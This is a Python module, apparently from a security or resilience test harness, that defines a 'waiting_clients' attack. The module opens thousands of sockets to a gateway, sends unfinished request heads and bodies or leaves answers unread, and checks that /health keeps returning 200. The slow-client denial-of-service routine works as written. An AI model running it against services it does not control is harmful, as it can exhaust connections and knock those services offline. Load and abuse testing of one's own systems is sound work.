"""Connections that keep the gateway waiting: bodies and heads that do not come, answers that are not read."""

from __future__ import annotations

import asyncio
import resource
import socket
import time
from contextlib import suppress
from typing import Any

from hostile.attack import Attack
from hostile.target import Target

_FORM = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nusername="


async def run(target: Target) -> dict[str, Any]:
    host = f"Host: {target.address[0]}\r\n"
    page = f"GET /openapi.json HTTP/1.1\r\n{host}\r\n".encode()
    waiting = (
        f"POST /auth/token HTTP/1.1\r\n{host}{_FORM}".encode(),  # a public route
        target.request_head("POST", "/v1/chat/completions", Content_Length="100"),
        target.request_head("PUT", "/collections/c/snapshot", Content_Length="1000000"),
        f"GET /health HTTP/1.1\r\n{host}".encode(),
        b"",
        page * 10,
    )
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    socks, slowest = [], 0.0
    try:
        for number in range(target.count(6000, 240)):
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.connect(target.address)
            with suppress(ConnectionError):
                sock.sendall(waiting[number % len(waiting)])
            socks.append(sock)
            if number % 20 == 0:
                began = time.perf_counter()
                answer = await asyncio.to_thread(target.send, "GET", "/health")
                slowest = max(slowest, time.perf_counter() - began)
                assert answer.status == 200, answer
    finally:
        for sock in socks:
            sock.close()
    return {"connections": len(socks), "worst ms of /health": round(1000 * slowest)}


ATTACK = Attack("waiting_clients", run)
